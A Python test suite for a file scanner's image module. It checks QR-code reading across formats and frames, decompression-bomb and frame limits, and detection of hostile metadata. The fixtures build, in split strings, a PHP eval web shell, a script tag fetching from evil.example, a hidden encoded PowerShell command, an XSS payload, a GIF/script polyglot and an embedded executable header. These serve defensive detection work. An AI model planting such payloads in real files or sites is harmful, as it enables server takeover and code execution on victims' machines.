"""Pictures of every format as files: codes, frames, sizes, and what hides in their descriptions."""

from __future__ import annotations

import base64
import io
import struct
import zlib
from typing import Any

import pytest
from hypothesis import given, strategies as st
from PIL import Image, PngImagePlugin

from app.engine.budget import Limits
from app.engine.model import Report, Verdict
from app.engine.rules import RuleSet
from app.engine.scan import Engine
from tests.fuzz import fuzzed
from tests.unit.engine import pictures
from tests.unit.engine.containers import damaged, judged
from tests.unit.engine.pictures import LINK, code, saved

#: Laid together here, so that no virus scanner on a developer's machine takes this file for what it describes.
WEB_SHELL = b"<?" + b"php ev" + b"al($_PO" + b"ST['c']); ?>"
PAGE_SCRIPT = b"<scr" + b"ipt src=https://evil.example/x.js></scr" + b"ipt>"
COMMAND = b"power" + b"shell -nop -w hidden -enc SQBFAFgA"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(400)


def ids(report: Report) -> set[str]:
    return {finding.id for finding in report.findings}


def urls(report: Report) -> set[str]:
    return {link.url for link in report.urls}


def scanned(engine: Engine, content: bytes, name: str = "picture") -> Report:
    return engine.scan(content, name=name)


@pytest.mark.parametrize(
    ("kind", "options"),
    [
        ("PNG", {}),
        ("JPEG", {"quality": 40}),
        ("GIF", {}),
        ("BMP", {}),
        ("TIFF", {"compression": "tiff_lzw"}),
        ("TIFF", {"compression": "group4"}),
        ("WEBP", {"quality": 50}),
        ("ICO", {}),
        ("AVIF", {"quality": 60, "max_threads": 1}),
        ("JPEG2000", {}),
    ],
)
def test_a_code_is_read_in_every_format(engine: Engine, kind: str, options: dict[str, Any]) -> None:
    picture = code().convert("1") if options.get("compression") == "group4" else code()

    report = scanned(engine, saved(picture, kind, **options))

    assert LINK in urls(report)
    assert {(found.id, found.evidence) for found in report.findings} == {("image.code", LINK)}


@pytest.mark.parametrize("kind", ["GIF", "WEBP", "TIFF", "PNG"])
def test_a_code_in_a_later_frame_or_page_is_read(engine: Engine, kind: str) -> None:
    blank = Image.new("L", code().size, 200)
    content = io.BytesIO()
    blank.save(content, kind, save_all=True, append_images=[blank.point(lambda _: 90), blank, code()])

    assert LINK in urls(scanned(engine, content.getvalue()))


def test_a_file_without_an_end_is_read_as_far_as_it_goes(engine: Engine) -> None:
    picture = Image.new("L", (300, 600), 255)
    picture.paste(code(), (40, 20))

    for kind in ("JPEG", "PNG"):
        content = saved(pictures.noisy(0.2)(picture), kind)
        assert LINK in urls(scanned(engine, content[: len(content) * 3 // 4])), kind


def test_all_links_of_several_codes_are_found(engine: Engine) -> None:
    picture = Image.new("L", (700, 400), 255)
    picture.paste(code("https://one.example/"), (20, 60))
    picture.paste(code("HTTPS://TWO.EXAMPLE/A"), (400, 100))

    assert urls(scanned(engine, saved(picture))) == {"https://one.example/", "https://two.example/A"}


@pytest.mark.parametrize("text", ["WIFI:T:WPA;S=guest;P=secret;;", "MATMSG:TO:a@b.example;", "4006381333931"])
def test_a_code_without_an_address_is_only_told(engine: Engine, text: str) -> None:
    report = scanned(engine, saved(code(text)))

    assert (ids(report), urls(report), report.verdict) == ({"image.code"}, set(), Verdict.CLEAN)


def test_a_site_without_its_scheme_is_an_address(engine: Engine) -> None:
    assert urls(scanned(engine, saved(code("qr.example/pay")))) == {"https://qr.example/pay"}


def test_a_picture_of_too_many_pixels_is_unknown(engine: Engine) -> None:
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    bomb = (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(bytes(1000))) + _chunk(b"IEND")
    )

    report = scanned(engine, bomb)

    assert ids(report) == {"limit.pixels"}
    assert report.verdict is Verdict.UNKNOWN


def test_a_large_plain_picture_is_no_bomb(engine: Engine) -> None:
    report = scanned(engine, saved(Image.new("1", (7_000, 3_000))))

    assert (ids(report), report.verdict) == (set(), Verdict.CLEAN)


def test_what_is_no_picture_inside_is_told(engine: Engine) -> None:
    report = scanned(engine, b"\x89PNG\r\n\x1a\n" + bytes(100))

    assert (ids(report), report.verdict) == ({"image.not_read"}, Verdict.CLEAN)


@pytest.mark.parametrize(("side", "found", "verdict"), [(300, {"limit.pictures"}, Verdict.UNKNOWN),
                                                       (10, set(), Verdict.CLEAN)])  # fmt: skip
def test_a_picture_without_time_to_search_it_is_unknown_when_it_may_hold_a_code(
    rules: RuleSet, side: int, found: set[str], verdict: Verdict
) -> None:
    moments = iter([0.0, 0.0, *[13.0] * 10_000])

    report = Engine(rules, Limits(), clock=lambda: next(moments)).scan(saved(code().resize((side, side))), name="a.png")

    assert (ids(report), report.verdict) == (found, verdict)


def test_a_code_in_a_late_frame_is_read(engine: Engine) -> None:
    content = io.BytesIO()
    frames = [Image.new("L", (150, 150), 255 - number % 200) for number in range(400)]
    frames.append(code().resize((150, 150)))
    frames[0].save(content, "GIF", save_all=True, append_images=frames[1:])

    report = scanned(engine, content.getvalue())

    assert LINK in urls(report)
    assert report.verdict is Verdict.CLEAN


def test_frames_that_are_not_looked_at_are_unknown(engine: Engine) -> None:
    content = io.BytesIO()
    frames = [Image.new("L", (12, 12), number % 250) for number in range(1_600)]
    frames[0].save(content, "GIF", save_all=True, append_images=frames[1:])

    report = scanned(engine, content.getvalue())

    assert (ids(report), report.verdict) == ({"limit.frames"}, Verdict.UNKNOWN)


def test_all_pages_of_a_long_scanned_file_are_looked_at(engine: Engine) -> None:
    content = io.BytesIO()
    pages = [Image.new("1", (1_240, 1_754), 1) for _ in range(40)]
    for number, page in enumerate(pages):
        page.putpixel((number, number), 0)
    pages[30].paste(code().convert("1"), (400, 400))
    pages[0].save(content, "TIFF", save_all=True, append_images=pages[1:], compression="group4")

    report = scanned(engine, content.getvalue())

    assert LINK in urls(report)
    assert report.verdict is Verdict.CLEAN


def _chunk(kind: bytes, content: bytes = b"") -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def described(place: str, text: bytes) -> bytes:
    """Return a small picture with a description at this place."""
    picture = Image.new("RGB", (20, 20), "white")
    words = text.decode("latin-1")
    chunks = PngImagePlugin.PngInfo()
    exif = Image.Exif()
    exif[0x010E] = words
    match place:
        case "jpeg comment":
            return saved(picture, "JPEG", comment=text)
        case "jpeg exif":
            return saved(picture, "JPEG", exif=exif)
        case "webp exif":
            return saved(picture, "WEBP", exif=exif)
        case "tiff":
            return saved(picture, "TIFF", tiffinfo={270: words})
        case "gif comment":
            return saved(picture, "GIF", comment=text)
        case "png text":
            chunks.add_text("Comment", words)
        case "png packed text":
            chunks.add_text("Comment", words, zip=True)
        case "png packed international text":
            chunks.add_itxt("Comment", words, zip=True)
        case "behind the picture":
            return saved(picture, "PNG") + text
    return saved(picture, "PNG", pnginfo=chunks)


PLACES = (
    *("jpeg comment", "jpeg exif", "webp exif", "tiff", "gif comment"),
    *("png text", "png packed text", "png packed international text"),
)


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", [PAGE_SCRIPT, COMMAND, b'"><img src=x onerror=alert(1)>'])
def test_a_script_in_a_description_is_suspicious(engine: Engine, place: str, text: bytes) -> None:
    report = scanned(engine, described(place, text))

    assert "image.script_in_metadata" in ids(report)
    assert report.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize("place", [*[place for place in PLACES if "packed" not in place], "behind the picture"])
def test_a_web_shell_in_a_picture_is_malicious(engine: Engine, place: str) -> None:
    report = scanned(engine, described(place, WEB_SHELL))

    assert "image.web_shell" in ids(report)
    assert report.verdict is Verdict.MALICIOUS


def test_other_php_in_a_picture_is_suspicious(engine: Engine) -> None:
    report = scanned(engine, described("jpeg comment", b"<?php echo 'hello'; ?>"))

    assert (ids(report), report.verdict) == ({"image.script_in_metadata"}, Verdict.SUSPICIOUS)


@pytest.mark.parametrize("place", [*PLACES, "behind the picture"])
@pytest.mark.parametrize(
    "text",
    [
        b"Canon EOS R5; our stand at the fair, JavaScript: The Good Parts (2nd row), PHP 8 and PowerShell 7",
        b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF><rdf:Description xmp:CreatorTool='GIMP 2.10'/></rdf:RDF>",
    ],
)
def test_an_ordinary_description_is_clean(engine: Engine, place: str, text: bytes) -> None:
    report = scanned(engine, described(place, text))

    assert (ids(report), report.verdict) == (set(), Verdict.CLEAN)


@pytest.mark.parametrize("backwards", [False, True])
@pytest.mark.parametrize("place", ["jpeg comment", "behind the picture"])
def test_a_program_as_text_in_a_picture_is_malicious(engine: Engine, place: str, backwards: bool) -> None:
    text = base64.b64encode(PROGRAM)

    report = scanned(engine, described(place, b"<<START>>" + (text[::-1] if backwards else text) + b"<<END>>"))

    assert "image.program_inside" in ids(report)
    assert report.verdict is Verdict.MALICIOUS


def test_other_base64_in_a_picture_is_clean(engine: Engine) -> None:
    report = scanned(engine, described("jpeg comment", base64.b64encode(saved(code(), "JPEG"))))

    assert (ids(report), report.verdict) == (set(), Verdict.CLEAN)


def test_a_picture_that_is_a_script_too_is_suspicious(engine: Engine) -> None:
    polyglot = b"GIF89a/*\x00\x00\x00\x00\x00*/=1;" + PAGE_SCRIPT + bytes(100)

    assert "image.script_in_metadata" in ids(scanned(engine, polyglot))


def enhanced_metafile(picture: Image.Image) -> bytes:
    """Return an EMF that draws one bitmap ([MS-EMF] 2.3.1.7)."""
    bitmap = saved(picture.convert("RGB"), "BMP")[14:]
    header = struct.pack("<II16x16x4sII", 1, 88, b" EMF", 0x10000, 0) + bytes(36)
    stretch = struct.pack("<40xIIII16x", 80, 40, 120, len(bitmap) - 40) + bitmap
    stretch += bytes(-len(stretch) % 4)
    return header + struct.pack("<II", 81, len(stretch) + 8) + stretch + struct.pack("<IIIII", 14, 20, 0, 16, 20)


def windows_metafile(picture: Image.Image) -> bytes:
    """Return a WMF that draws one bitmap ([MS-WMF] 2.3.1.6)."""
    bitmap = saved(picture.convert("RGB"), "BMP")[14:]
    words = (28 + len(bitmap)) // 2
    return b"\xd7\xcd\xc6\x9a" + bytes(36) + struct.pack("<IH22x", words, 0x0F43) + bitmap + struct.pack("<IH", 3, 0)


@pytest.mark.parametrize("draw", [enhanced_metafile, windows_metafile])
def test_a_bitmap_in_a_metafile_is_read(engine: Engine, draw: Any) -> None:
    report = scanned(engine, draw(code(scale=3)))

    assert LINK in urls(report)
    assert {"image.code", "image.drawing"} == ids(report)


@fuzzed(30)
@given(data=st.data())
def test_damaged_pictures_are_judged(rules: RuleSet, data: st.DataObject) -> None:
    kind = data.draw(st.sampled_from(["PNG", "JPEG", "GIF", "TIFF", "WEBP", "ICO", "JPEG2000", "BMP"]))

    judged(rules, data.draw(damaged(saved(code("a", scale=2), kind))), "a.png")


@fuzzed()
@given(data=st.data())
def test_damaged_metafiles_are_judged(rules: RuleSet, data: st.DataObject) -> None:
    draw = data.draw(st.sampled_from([enhanced_metafile, windows_metafile]))

    judged(rules, data.draw(damaged(draw(code("a", scale=1)), within=(0, 300))), "a.emf")
